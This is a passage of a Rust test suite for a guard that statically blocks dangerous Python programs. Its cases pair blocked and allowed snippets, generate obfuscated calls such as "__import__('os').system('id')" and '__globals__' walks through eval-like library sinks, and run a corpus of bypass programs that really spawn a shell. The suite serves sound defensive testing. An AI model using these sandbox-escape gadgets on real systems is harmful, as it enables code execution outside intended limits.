        "import mpmath\nmpmath.mp._aliases = {k: v}\nmpmath.mp._init_aliases()",
        "reflection",
        "import mpmath\nmpmath.mp.dps = 30\nprint(mpmath.mp.pi)",
    ),
    (
        "pygments runs a lexer file of any name",
        "from pygments.lexers import load_lexer_from_file\nload_lexer_from_file('lexer.txt')",
        "code_string",
        "from pygments import highlight\nfrom pygments.lexers import PythonLexer\nfrom pygments.formatters import HtmlFormatter\nprint(highlight('x = 1', PythonLexer(), HtmlFormatter()))",
    ),
    (
        "pygments' string_to_tokentype walks an attribute path",
        "from pygments.token import string_to_tokentype\nt = string_to_tokentype(name)",
        "reflection",
        "from pygments.token import string_to_tokentype\nt = string_to_tokentype('Token.Name.Function')",
    ),
    (
        "lxml.html's _MethodFunc calls the method a string names",
        "from lxml.html import _MethodFunc\nf = _MethodFunc(name, copy=False)",
        "reflection",
        "import lxml.html\nprint(lxml.html.fromstring('<p>x</p>').text_content())",
    ),
    (
        "lxml's DefaultErrorCreator stores its keywords as attributes",
        "from lxml.html.formfill import DefaultErrorCreator\nd = DefaultErrorCreator(**opts)",
        "reflection",
        "from lxml.html.formfill import DefaultErrorCreator\nd = DefaultErrorCreator(insert_before=False)",
    ),
    (
        "cryptography builds accessors for the attribute a string names",
        "from cryptography.x509.extensions import _make_sequence_methods\nm = _make_sequence_methods(name)",
        "reflection",
        "from cryptography.fernet import Fernet\nprint(len(Fernet.generate_key()))",
    ),
    (
        "cryptography's deprecated sets an attribute on a loaded module",
        "from cryptography import utils\nutils.deprecated(v, mod, msg, Warning, name=n)",
        "reflection",
        "from cryptography.hazmat.primitives import hashes\nh = hashes.Hash(hashes.SHA256())",
    ),
    (
        "bs4's _alias reads the attribute a string names",
        "from bs4.element import _alias\np = _alias(name)",
        "reflection",
        "import bs4\nprint(bs4.BeautifulSoup('<p>x</p>', 'html.parser').p.text)",
    ),
    (
        "ast.iter_fields reads the attributes `_fields` names",
        "import ast\nprint(dict(ast.iter_fields(f)))",
        "reflection",
        "import ast\nprint([type(n).__name__ for n in ast.walk(ast.parse('x = 1'))])",
    ),
    (
        "defusedxml's _apply_defusing imports the module an object names",
        "from defusedxml.common import _apply_defusing\n_apply_defusing(obj)",
        "reflection",
        "import defusedxml.ElementTree as ET\nprint(ET.fromstring('<a>x</a>').text)",
    ),
    (
        "blinker stores a value under a function's __name__",
        "from blinker._utilities import lazy_property\np = lazy_property(f)",
        "reflection",
        "import blinker\ns = blinker.signal('done')\nprint(s.name)",
    ),
    (
        "blinker's reference stores its keywords as attributes",
        "from blinker._utilities import reference\nr = reference(obj, **ann)",
        "reflection",
        "from blinker._utilities import reference\nr = reference(obj, sender_id=1)",
    ),
    (
        "an explicit __setstate__ writes any attribute of a class",
        "import sympy\nsympy.Basic.__setstate__(C, state)",
        "reflection",
        "import sympy\nx = sympy.Symbol('x')\nprint(x.__getstate__())",
    ),
    (
        "an explicit __init__ on a class",
        "import argparse\nclass C:\n    pass\nNs.__init__(C, **kw)",
        "reflection",
        "class B:\n    def __init__(self, x):\n        self.x = x\nclass D(B):\n    def __init__(self, x):\n        super().__init__(x)\n        B.__init__(self, x)\n",
    ),
    (
        "an explicit __setstate__ from __init_subclass__",
        "class Base:\n    def __init_subclass__(cls):\n        super().__setstate__(cls, state)\n",
        "reflection",
        "class S:\n    def __setstate__(self, state):\n        super().__setstate__(state)\n",
    ),
    (
        "copy writes what __getstate__ returns into the copy",
        "class R:\n    def __getstate__(self):\n        return {k: v}\n",
        "dunder_name",
        "import copy\nclass R:\n    def __init__(self):\n        self.a = [1]\nprint(copy.deepcopy(R()).a)",
    ),
    (
        "copy calls what __reduce__ returns",
        "class R:\n    def __reduce__(self):\n        return (f, ())\n",
        "dunder_name",
        "import copy\nclass R:\n    def __copy__(self):\n        return R()\nprint(copy.copy(R()))",
    ),
    (
        "argparse sets attributes named by option strings and dests",
        "import argparse\np = argparse.ArgumentParser()",
        "blocked_module",
        "import json\nparams = {'n': 3}\nprint(json.dumps(params))",
    ),
    (
        "optparse execs a file (Values.read_file)",
        "from optparse import Values",
        "blocked_module",
        "import configparser\nc = configparser.ConfigParser()\nc.read_string('[a]\\nx = 1')\nprint(c.getint('a', 'x'))",
    ),
    (
        "cgitb reads any attribute through a fake frame",
        "import cgitb",
        "blocked_module",
        "import traceback\nprint(traceback.format_exc())",
    ),
    (
        "mailcap runs an entry's test command",
        "import mailcap",
        "blocked_module",
        "import mimetypes\nprint(mimetypes.guess_type('a.csv'))",
    ),
    (
        "lib2to3 unpickles grammar tables",
        "from lib2to3.pgen2.grammar import Grammar",
        "blocked_module",
        "import tokenize, io\nprint(list(tokenize.generate_tokens(io.StringIO('x = 1').readline))[0])",
    ),
    (
        "pstats and modulefinder unmarshal or compile files",
        "import pstats\nimport modulefinder",
        "blocked_module",
        "import statistics\nprint(statistics.median([1, 2, 3]))",
    ),
    (
        "babel's extractor imports the `module:function` a string names",
        "from babel.messages.extract import extract",
        "blocked_module",
        "from babel.numbers import format_decimal\nprint(format_decimal(1234.5, locale='en_US'))",
    ),
    (
        "jinja2's compiler internals",
        "from jinja2 import nodes",
        "blocked_module",
        "from jinja2.sandbox import SandboxedEnvironment\nprint(SandboxedEnvironment().from_string('{{ x }}').render(x=1))",
    ),
];

#[test]
fn every_family_blocks_the_computed_use_and_allows_the_literal_one() {
    assert_cases_block_and_allow(FAMILY_CASES);
}

/// Each case: (what, a blocked program, the rule it must name, an allowed
/// program that must pass without findings).
#[track_caller]
fn assert_cases_block_and_allow(cases: &[(&str, &str, &str, &str)]) {
    for (what, blocked, rule, allowed) in cases {
        let v = check(blocked);
        assert_eq!(
            v.decision,
            Decision::Blocked,
            "{what}: not blocked: {blocked}\n{v:#?}"
        );
        assert!(
            rules(&v).contains(rule),
            "{what}: expected {rule} for {blocked:?}, got {:?}",
            rules(&v)
        );
        let v = check(allowed);
        assert_eq!(
            v.decision,
            Decision::Allowed,
            "{what}: false positive for {allowed:?}\n{v:#?}"
        );
        assert!(v.findings.is_empty(), "{what}: {allowed:?}: {v:#?}");
    }
}

#[test]
fn the_issue_s_literal_uses_stay_allowed() {
    for src in [
        "x = 3\nprint(\"{0.real}\".format(x))",
        "import string\np = P()\nprint(string.Formatter().format(\"{0.name}\", p))",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\nlimit = 1\nprint(df.query(\"a > @limit\"))",
        "from sympy import sympify\nprint(sympify(\"x**2\"))",
        "from operator import attrgetter\nby_score = attrgetter(\"score\")",
        "import yaml\nprint(yaml.safe_load(\"a: 1\"))",
    ] {
        assert_allowed(src);
    }
}

#[test]
fn extends_default_adds_a_deployment_s_own_capabilities() {
    let extra = r#"
extends = "default"
[[capabilities]]
rule = "code_string"
category = "code"
reason = "runs its argument in our in-house evaluator"
functions = ["acme.evaluate"]
literal = "code"
position = 0

[modules]
blocked = ["acme.admin"]
judged = ["acme"]
"#;
    let g = Guard::from_policy_toml(extra).unwrap();
    let c = ctx();
    let v = g.check(b"import acme\nacme.evaluate(text)", &c);
    assert!(rules(&v).contains(&"code_string"), "{v:#?}");
    let v = g.check(b"import acme\nacme.evaluate('1 + 2')", &c);
    assert_eq!(v.decision, Decision::Allowed, "{v:#?}");
    let v = g.check(b"import acme.admin", &c);
    assert!(rules(&v).contains(&"blocked_module"), "{v:#?}");
    // The default's own entries are still there.
    let v = g.check(b"import os", &c);
    assert!(rules(&v).contains(&"blocked_module"), "{v:#?}");
    let err = Guard::from_policy_toml("extends = \"other\"\nversion = 1")
        .unwrap_err()
        .to_string();
    assert!(err.contains("extends"), "{err}");
}

/// The bypass programs in tests/corpus/bypass: each ran a shell under plain
/// CPython on the guard before #13 (proved again by
/// `bypasses_really_run_a_shell_under_plain_cpython`), each names its rule.
fn bypasses() -> Vec<(String, String, String, String)> {
    bypasses_in("bypass")
}

/// The programs in tests/corpus/bypass-memory: each gets a raw memory address
/// read by numpy (`__array_interface__` set under a computed name), which
/// no OS wall stops inside the worker's own process; they prove it by writing
/// their marker when the bytes they read match. Kept apart from the shell
/// bypasses, which the suite also runs with the guard off.
fn memory_bypasses() -> Vec<(String, String, String, String)> {
    bypasses_in("bypass-memory")
}

fn bypasses_in(kind: &str) -> Vec<(String, String, String, String)> {
    corpus_files(kind)
        .into_iter()
        .map(|(name, bytes)| {
            let text = String::from_utf8(bytes).unwrap();
            let header = |key: &str| {
                text.lines()
                    .find_map(|l| l.strip_prefix(&format!("# {key}: ")))
                    .unwrap_or_else(|| panic!("{name} has no `# {key}:` line"))
                    .trim()
                    .to_string()
            };
            let (rule, marker) = (header("rule"), header("marker"));
            (name, text, rule, marker)
        })
        .collect()
}

#[test]
fn every_bypass_is_blocked_with_its_rule() {
    let all = bypasses();
    assert!(all.len() >= 17, "{} bypasses", all.len());
    for family in ["f1_", "f2_", "f3_", "f4_", "f5_"] {
        assert!(
            all.iter().any(|(n, ..)| n.starts_with(family)),
            "no bypass for {family}"
        );
    }
    let memory = memory_bypasses();
    assert!(memory.len() >= 4, "{} memory bypasses", memory.len());
    for (name, text, rule, _) in all.iter().chain(&memory) {
        let v = check(text);
        assert_eq!(v.decision, Decision::Blocked, "{name}:\n{v:#?}");
        assert!(
            rules(&v).contains(&rule.as_str()),
            "{name}: expected {rule}, got {:?}",
            rules(&v)
        );
    }
}

/// Runs every bypass with Debian's CPython outside any sandbox, in a scratch
/// directory, and checks that its shell really ran (the marker file exists).
/// The packages they need are installed by .ci/run; locally a missing one
/// skips that program with a note, in CI it fails.
#[test]
fn bypasses_really_run_a_shell_under_plain_cpython() {
    let python = Path::new("/usr/bin/python3");
    if !python.exists() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI needs /usr/bin/python3"
        );
        eprintln!("no /usr/bin/python3: skipped");
        return;
    }
    for (name, text, _, marker) in bypasses().into_iter().chain(memory_bypasses()) {
        let needs: Vec<&str> = text
            .lines()
            .filter_map(|l| {
                l.strip_prefix("import ")
                    .or_else(|| l.strip_prefix("from "))
            })
            .filter_map(|l| l.split([' ', '.', ',']).next())
            .collect();
        let probe = format!("import {}", needs.join(", "));
        let have = std::process::Command::new(python)
            .args(["-I", "-c", &probe])
            .output()
            .unwrap();
        if !have.status.success() {
            assert!(
                std::env::var_os("CI").is_none(),
                "{name}: CI lacks a package: {probe}"
            );
            eprintln!("{name}: skipped, this machine lacks a package ({probe})");
            continue;
        }
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(&name), &text).unwrap();
        let out = std::process::Command::new("timeout")
            .args(["120", "/usr/bin/python3", "-I", &name])
            .current_dir(dir.path())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(
            dir.path().join(&marker).exists(),
            "{name} did not run its shell (or, for bypass-memory, read the raw memory) under plain CPython:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// tools/guard_audit.py judges a finding by its exact qualified name: a bare
/// package or module in policies/audit-reviewed.toml covers nothing below it,
/// a `[[needs_rule]]` gadget is never counted as covered, and a group without
/// its reason stops the audit (tools/test_guard_audit.py, against the real
/// default policy). Needs `/usr/bin/python3` (3.11, for tomllib); locally a
/// missing one skips with a note, in CI it fails.
#[test]
fn the_audit_judges_findings_by_exact_name_only() {
    let python = Path::new("/usr/bin/python3");
    let has_tomllib = python.exists()
        && std::process::Command::new(python)
            .args(["-I", "-c", "import tomllib"])
            .output()
            .is_ok_and(|o| o.status.success());
    if !has_tomllib {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI lacks /usr/bin/python3 with tomllib"
        );
        eprintln!("skipped: this machine lacks /usr/bin/python3 with tomllib");
        return;
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = std::process::Command::new(python)
        .arg("-I")
        .arg(root.join("tools/test_guard_audit.py"))
        .current_dir(root)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "tools/test_guard_audit.py failed:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Top-level packages whose audit findings someone is still judging: their
/// findings are skipped, and said so. Empty: every finding of the audit is
/// judged (session 5 emptied it once numba, fontTools, openpyxl, ufoLib2 and
/// fs were); a package added while its findings are read goes here briefly.
const STILL_BEING_JUDGED: &[&str] = &[];

/// `tools/guard_audit.py --uncovered --pinned .ci/audit-packages` lists
/// nothing: every finding in the stdlib and in the pinned packages is ruled in
/// policies/default.toml or judged, with its reason, in
/// policies/audit-reviewed.toml. A Python or package upgrade that brings a
/// new reflective, evaluating, spawning, loading or native API fails here
/// until someone judges it. The audit reads exactly the Debian packages
/// .ci/audit-packages lists (the set the findings were judged on, which
/// .ci/run installs), never whatever else is installed, so a machine with
/// more packages gets the same outcome; the test prints which packages it
/// read. Needs Debian's python3 data stack; locally a missing package skips
/// with a note, in CI it fails.
#[test]
fn the_audit_of_the_data_stack_leaves_nothing_unjudged() {
    const DATA_STACK: &[&str] = &[
        "numpy",
        "pandas",
        "matplotlib",
        "mpl_toolkits",
        "sympy",
        "PIL",
        "scipy",
    ];
    let python = Path::new("/usr/bin/python3");
    let probe = format!("import {}", DATA_STACK.join(", "));
    let have = python.exists()
        && std::process::Command::new(python)
            .args(["-I", "-c", &probe])
            .output()
            .is_ok_and(|o| o.status.success());
    if !have {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI lacks Debian's python3 data stack ({probe})"
        );
        eprintln!("skipped: this machine lacks a package ({probe})");
        return;
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = std::process::Command::new(python)
        .arg("-I")
        .arg(root.join("tools/guard_audit.py"))
        .arg("--uncovered")
        .arg("--pinned")
        .arg(root.join(".ci/audit-packages"))
        .current_dir(root)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "the audit failed:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let read: usize = text
        .lines()
        .find_map(|l| l.strip_suffix(" modules read"))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(read > 3000, "the audit read only {read} modules:\n{text}");
    let packages = text
        .lines()
        .find_map(|l| l.strip_prefix("packages read besides the stdlib: "))
        .unwrap_or("");
    for p in DATA_STACK {
        assert!(
            packages.split(' ').any(|q| q == *p),
            "the audit did not read {p}: {packages}"
        );
    }
    eprintln!("audited {read} modules: the stdlib and {packages}");
    let pending = |l: &&str| {
        let top = l.rsplit(' ').next().unwrap_or("").split('.').next();
        top.is_some_and(|t| STILL_BEING_JUDGED.contains(&t))
    };
    let (skipped, unjudged): (Vec<&str>, Vec<&str>) = text
        .lines()
        .filter(|l| l.contains("NOT COVERED"))
        .partition(pending);
    // Judged capability gadgets the guard has no rule for yet
    // (`[[needs_rule]]` in policies/audit-reviewed.toml): judged, so they do
    // not fail the test, but never counted as covered and always shown.
    let gadgets: Vec<&str> = text.lines().filter(|l| l.contains("NEEDS RULE")).collect();
    if !gadgets.is_empty() {
        eprintln!(
            "{} judged gadgets still need a guard rule:\n{}",
            gadgets.len(),
            gadgets.join("\n")
        );
    }
    if !skipped.is_empty() {
        eprintln!(
            "{} findings in {:?} are still being judged and were skipped",
            skipped.len(),
            STILL_BEING_JUDGED
        );
    }
    assert!(
        unjudged.is_empty(),
        "findings nobody judged (rule them in policies/default.toml or give a reason in \
         policies/audit-reviewed.toml):\n{}",
        unjudged.join("\n")
    );
}

/// policies/judged.toml, the set the guard calls judged, is exactly what
/// `tools/guard_audit.py --judged --pinned .ci/audit-packages` writes: the
/// top-level modules the audit above reads. A package added to the listing
/// (or a Python upgrade) fails here until the file is regenerated. Needs the
/// pinned Debian packages; locally a missing one skips with a note, in CI it
/// fails.
#[test]
fn the_judged_modules_are_those_the_audit_reads() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = std::process::Command::new("/usr/bin/python3")
        .arg("-I")
        .arg(root.join("tools/guard_audit.py"))
        .args(["--judged", "--pinned", ".ci/audit-packages"])
        .current_dir(root)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    if !out.status.success() {
        let why = String::from_utf8_lossy(&out.stderr);
        assert!(std::env::var_os("CI").is_none(), "--judged failed: {why}");
        eprintln!("skipped: {why}");
        return;
    }
    let stored = std::fs::read_to_string(root.join("policies/judged.toml")).unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout) == stored,
        "policies/judged.toml is stale: run `/usr/bin/python3 -I tools/guard_audit.py \
         --judged --pinned .ci/audit-packages > policies/judged.toml`"
    );
}

// ---- programs that build names at run time (#13) -------------------------------------
//
// Each generated program builds a dangerous name or code string at run time
// (concatenation, join, chr, slicing, format, f-strings, bytes decoding,
// codecs), optionally through a variable, and passes it to one of the
// reflective, evaluating or loading APIs on the policy's lists. The guard
// must block every one, and never crash or hang.

/// Names and code the programs try to reach.
const TARGETS: &[&str] = &[
    "__class__",
    "__globals__",
    "__subclasses__",
    "gi_frame",
    "f_back",
    "os",
    "system",
    "__import__('os').system('id')",
    "animation.ffmpeg_path",
    "{{ x.__init__.__globals__ }}",
];

/// Templates for the `str.format` sinks: a harmless template built at run
/// time is harmless, so these always walk attributes.
const FORMAT_TARGETS: &[&str] = &["{0.__class__}", "{0.__init__.__globals__}", "{x.gi_frame}"];

/// Python expressions whose value is `target`, built at run time.
fn builders(target: &str) -> Vec<String> {
    let lit = |s: &str| format!("{s:?}");
    let mid = target.len() / 2;
    let (a, b) = target.split_at(
        target
            .char_indices()
            .map(|(i, _)| i)
            .find(|&i| i >= mid)
            .unwrap_or(0),
    );
    let codes: Vec<String> = target.chars().map(|c| (c as u32).to_string()).collect();
    let hex: String = target.bytes().map(|b| format!("{b:02x}")).collect();
    let rot13: String = target
        .chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
            _ => c,
        })
        .collect();
    let reversed: String = target.chars().rev().collect();
    vec![
        format!("{} + {}", lit(a), lit(b)),
        format!("''.join([{}, {}])", lit(a), lit(b)),
        format!("''.join(map(chr, [{}]))", codes.join(", ")),
        format!("''.join(chr(c) for c in [{}])", codes.join(", ")),
        format!("{}[::-1]", lit(&reversed)),
        format!("('xx' + {})[2:]", lit(target)),
        format!("'{{}}{{}}'.format({}, {})", lit(a), lit(b)),
        format!("'%s%s' % ({}, {})", lit(a), lit(b)),
        format!("f'{{{}}}{{{}}}'", lit(a), lit(b)),
        format!("bytes([{}]).decode()", codes.join(", ")),
        format!("bytes.fromhex('{hex}').decode('ascii')"),
        format!("codecs.decode({}, 'rot13')", lit(&rot13)),
        format!("codecs.decode(b'{}', 'ascii')", target.escape_default()),
        format!("str({})", lit(target)),
    ]
}

/// The `str.format` sinks: the template is the built string.
fn format_sinks(n: &str) -> Vec<String> {
    vec![
        format!("string.Formatter().vformat({n}, (obj,), {{}})"),
        format!("string.Formatter().format({n}, obj)"),
        format!("str.format({n}, obj)"),
        format!("({n}).format(obj)"),
        format!("({n}).format_map({{'x': obj}})"),
    ]
}

/// The other sinks: each takes the built expression `n` and passes it on.
fn sinks(n: &str) -> Vec<String> {
    vec![
        format!("getattr(obj, {n})"),
        format!("setattr(obj, {n}, 1)"),
        format!("delattr(obj, {n})"),
        format!("hasattr(obj, {n})"),
        format!("operator.attrgetter({n})(obj)"),
        format!("operator.methodcaller({n})(obj)"),
        format!("string.Formatter().get_field({n}, (obj,), {{}})"),
        format!("object.__setattr__(obj, {n}, 1)"),
        format!("type.__setattr__(C, {n}, (1,))"),
        format!("type('C', (), {{{n}: 1}})"),
        format!("dataclasses.make_dataclass('D', [{n}])"),
        format!("sympy.sympify({n})"),
        format!("sympy.parsing.sympy_parser.parse_expr({n})"),
        format!("sympy.simplify({n})"),
        format!("df.query({n})"),
        format!("df.eval({n})"),
        format!("pd.eval({n})"),
        format!("ImageMath.eval({n}, a=1)"),
        format!("np.testing.measure({n})"),
        format!("jinja2.Template({n}).render(x=obj)"),
        format!("jinja2.Environment().from_string({n})"),
        format!("sympy.external.import_module({n})"),
        format!("matplotlib.use({n})"),
        format!("matplotlib.rcParams[{n}] = '/bin/sh'"),
        format!("matplotlib.rcParams.update({{{n}: '/bin/sh'}})"),
        format!("yaml.load(doc, Loader=getattr(yaml, {n}))"),
        format!("np.load('x.npy', allow_pickle=bool({n}))"),
        format!("np.core.fromnumeric._wrapfunc(obj, {n})"),
        format!("np.ma.core._frommethod({n})(obj)"),
        format!("scipy.stats._morestats._parse_dist_kw({n})"),
        format!("scipy.optimize.root_scalar(f, method={n})"),
        format!("sympy.sin(x)._rewrite(None, None, {n})"),
    ]
}

const PRELUDE: &str = "import operator, string, codecs, collections, dataclasses\n\
import sympy, sympy.parsing.sympy_parser, sympy.external\n\
import numpy as np, pandas as pd, jinja2, matplotlib, yaml, scipy.stats, scipy.optimize\n\
from PIL import ImageMath\n";

/// How many sinks there are in all.
fn sink_count() -> usize {
    sinks("n").len() + format_sinks("n").len()
}

fn program(target: usize, builder: usize, sink: usize, via_variable: bool, filler: &str) -> String {
    let sink = sink % sink_count();
    let formats = format_sinks("n").len();
    let target = if sink < formats {
        FORMAT_TARGETS[target % FORMAT_TARGETS.len()]
    } else {
        TARGETS[target % TARGETS.len()]
    };
    let built = builders(target);
    let expr = &built[builder % built.len()];
    let (setup, n) = if via_variable {
        (format!("name = {expr}\n"), "name".to_string())
    } else {
        (String::new(), format!("({expr})"))
    };
    let call = if sink < formats {
        format_sinks(&n).swap_remove(sink)
    } else {
        sinks(&n).swap_remove(sink - formats)
    };
    format!("{PRELUDE}{filler}{setup}{call}\n")
}

/// Checks `src` on another thread: a hang is a failure, not a stuck test.
fn check_with_deadline(src: String) -> Verdict {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(guard().check(src.as_bytes(), &ctx()));
    });
    rx.recv_timeout(std::time::Duration::from_secs(60))
        .expect("the guard hung (no verdict within 60 s)")
}

#[test]
fn every_builder_reaches_every_sink_blocked() {
    // The whole cross product once, deterministically.
    for (t, target) in TARGETS.iter().enumerate() {
        for b in 0..builders(target).len() {
            for s in 0..sink_count() {
                for via in [false, true] {
                    let src = program(t, b, s, via, "");
                    let v = check_with_deadline(src.clone());
                    assert_eq!(v.decision, Decision::Blocked, "not blocked:\n{src}\n{v:#?}");
                    assert!(!v.retryable_error, "not judged:\n{src}\n{v:#?}");
                }
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::default())]

    #[test]
    fn built_names_are_blocked_amid_ordinary_code(
        t in any::<usize>(),
        b in any::<usize>(),
        s in any::<usize>(),
        via in any::<bool>(),
        filler in prop::collection::vec(prop::sample::select(vec![
            "x = [i * 2 for i in range(10)]\n",
            "total = sum(x) if x else 0\n",
            "def f(a, b=2):\n    return a + b\n",
            "class P:\n    def __init__(self, v):\n        self.v = v\n",
            "label = f'{total:>8.2f}'\n",
            "rows = sorted({'b': 2, 'a': 1}.items())\n",
        ]), 0..4),
    ) {
        let src = program(t, b, s, via, &filler.concat());
        let v = check_with_deadline(src.clone());
        prop_assert_eq!(v.decision, Decision::Blocked, "not blocked:\n{}", src);
        prop_assert!(!rules(&v).contains(&"internal_error"), "{}", src);
    }
}

// ---- packages outside the data stack (guard5) ----
//
// numba/llvmlite, fontTools, openpyxl, ufoLib2 and fs: each route the audit
// found is ruled (a blocked computed or indirect use, named by its rule, and
// an allowed literal use) or judged in policies/audit-reviewed.toml.

/// (what, blocked program, rule, allowed program)
const OUTSIDE_DATA_STACK: &[(&str, &str, &str, &str)] = &[
    (
        "numba evaluates a signature built at run time",
        "import numba\nsig = 'int64(' + 'int64)'\ng = numba.njit(sig)(f)",
        "code_string",
        "import numba\n@numba.njit('int64(int64)')\ndef f(x):\n    return x + 1\n",
    ),
    (
        "numba evaluates a literal signature that calls the builtins",
        "import numba\ng = numba.jit(\"__import__('os').system('id') or ()\")(f)",
        "blocked_builtin",
        "import numba\n@numba.jit('float64(float64[:])', nopython=True)\ndef m(a):\n    return a.sum()\n",
    ),
    (
        "numba.vectorize with a signature list holding a built string",
        "import numba\nt = 'f8'\nu = numba.vectorize([t + '(f8)'])(f)",
        "code_string",
        "import numba\n@numba.vectorize(['float64(float64)', 'int64(int64)'])\ndef d(x):\n    return 2 * x\n",
    ),
    (
        "a jitted function's inspection evaluates its signature",
        "import numba\n@numba.njit\ndef f(x):\n    return x\nprint(f.inspect_llvm(str(sig)))",
        "code_string",
        "import numba\n@numba.njit\ndef f(x):\n    return x\nf(1)\nprint(len(f.inspect_types(None, None, pretty=False) or ''))",
    ),
    (
        "objmode evaluates its type strings",
        "import numba\n@numba.njit\ndef f():\n    with numba.objmode(y='float64'):\n        y = 1.0\n    return y\n",
        "code_string",
        "import numba\n@numba.njit\ndef f(x):\n    return x * 2\n",
    ),
    (
        "numba.stencil pastes str(cval) into source it executes",
        "import numba\n@numba.stencil(cval=c)\ndef k(a):\n    return a[-1] + a[1]\n",
        "code_string",
        "import numba\n@numba.njit\ndef k(a, out):\n    for i in range(1, a.shape[0] - 1):\n        out[i] = a[i - 1] + a[i + 1]\n",
    ),
    (
        "jitclass pastes field names into source it executes",
        "from numba.experimental import jitclass\nC = jitclass([(name, t)])(C)",
        "blocked_module",
        "from numba import typed\nl = typed.List()\nl.append(1)\nprint(len(l))",
    ),
    (
        "cfunc hands out a C callback's address",
        "import numba\n@numba.cfunc('int64(int64)')\ndef f(x):\n    return x\nprint(f.address)",
        "native_code",
        "import numba\n@numba.njit(nogil=True)\ndef f(x):\n    return x\n",
    ),
    (
        "jitted code calling a C symbol by name",
        "from numba import types\nf = types.ExternalFunction('sys' + 'tem', types.int32(types.intp))",
        "native_code",
        "from numba import types\nsig = types.int32(types.intp)\nprint(sig)",
    ),
    (
        "a typed List over the memory of a bytes object",
        "from numba.typed import List\nfrom numba import types\nl = List(lsttype=types.ListType(types.int64), meminfo=b'A' * 64)",
        "native_code",
        "from numba.typed import List\nl = List()\nl.append(1)\nl.extend([2, 3])\nprint(list(l))",
    ),
    (
        "a typed Dict over the memory of a bytes object, by position",
        "from numba import typed, types\nd = typed.Dict(types.DictType(types.int64, types.int64), data)",
        "native_code",
        "from numba import typed, types\nd = typed.Dict.empty(key_type=types.int64, value_type=types.float64)\nd[1] = 2.0\nprint(dict(d))",
    ),
    (
        "a typed container's raw MemInfo replaced",
        "from numba.typed import List\nl = List([1])\nl._opaque = data",
        "blocked_attribute",
        "from numba.typed import List\nl = List([1, 2])\nprint(len(l))",
    ),
    (
        "numba's C extension makes a function over a machine address",
        "import numba\nf = numba._dynfunc.make_function(m, 'f', '', address, env)",
        "module_reexport",
        "import numba\nprint(numba.get_num_threads())",
    ),
    (
        "numba's test runner imports what it is given",
        "import numba\nnumba.test(name)",
        "reflection",
        "import numba\nprint(numba.typeof([1.0]))",
    ),
    (
        "cfunc as a bare decorator",
        "from numba import cfunc\n@cfunc\ndef f(x):\n    return x\n",
        "native_code",
        "from numba import njit\n@njit\ndef f(x):\n    return x\n",
    ),
    (
        "numba's compiler internals through a jitted function",
        "import numba\n@numba.njit\ndef f(x):\n    return x\nlib = list(f.overloads.values())[0].library",
        "native_code",
        "import numba\n@numba.njit\ndef f(x):\n    return x\nprint(f(3), f.py_func(3))",
    ),
    (
        "numba's signature parser called directly",
        "from numba.core import sigutils\nsigutils._parse_signature_string(s)",
        "blocked_module",
        "from numba import types\nprint(types.float64[:])",
    ),
    (
        "numba's unpickler",
        "import numba\nnumba.core.serialize._numba_unpickle(0, data, None)",
        "native_code",
        "import numba\nprint(numba.typeof(1.0))",
    ),
    (
        "numba.gdb runs the program named gdb",
        "import numba\n@numba.njit\ndef f():\n    numba.gdb()\n",
        "process_spawn",
        "import numba\n@numba.njit\ndef f():\n    return numba.prange(3)\n",
    ),
    (
        "gdb imported from numba",
        "from numba import gdb_init\n",
        "process_spawn",
        "from numba import njit, prange\n",
    ),
    (
        "numba's on-disk cache loads a pickle",
        "import numba\n@numba.njit(cache=True)\ndef f(x):\n    return x\n",
        "unsafe_loader",
        "import numba\n@numba.njit(cache=False)\ndef f(x):\n    return x\n",
    ),
    (
        "numba's cache switched on by position",
        "import numba\ng = numba.jit(f, {}, True)",
        "unsafe_loader",
        "import numba\ng = numba.jit(f, {}, False)",
    ),
    (
        "numba's cache switched on afterwards",
        "import numba\n@numba.njit\ndef f(x):\n    return x\nf.enable_caching()",
        "native_code",
        "class Memo:\n    def __init__(self):\n        self._cache = {}\n        self._compiler = None\n    def get(self, k):\n        return self._cache.get(k)\n",
    ),
    (
        "writing numba's cache index",
        "from pathlib import Path\nPath('__pycache__/m.f-3.py311.nbi').write_bytes(data)",
        "code_file_write",
        "from pathlib import Path\nPath('m.bin').write_bytes(b'1')",
    ),
    (
        "a class offering numba a machine address to call",
        "class F:\n    def __wrapper_address__(self):\n        return 0\n",
        "dunder_name",
        "class F:\n    def address(self):\n        return 0\n",
    ),
    (
        "an alias of njit cannot be followed",
        "import numba\nj = numba.njit\ng = j(sig)(f)",
        "code_string",
        "import numba\ng = numba.njit(f)",
    ),
    (
        "fontTools' TTX import evaluates values",
        "from fontTools.ttLib import TTFont\nf = TTFont()\nf.importXML(path)",
        "unsafe_loader",
        "from fontTools.ttLib import TTFont\nf = TTFont('font.ttf')\nf.save('out.ttf')",
    ),
    (
        "a fontTools table's XML reader called directly",
        "from fontTools.ttLib import newTable\nt = newTable('META')\nt.fromXML(name, attrs, content, font)",
        "unsafe_loader",
        "from fontTools.ttLib import newTable\nt = newTable('head')\nprint(t.tableTag)",
    ),
    (
        "fontTools' custom table registry imports a module named at run time",
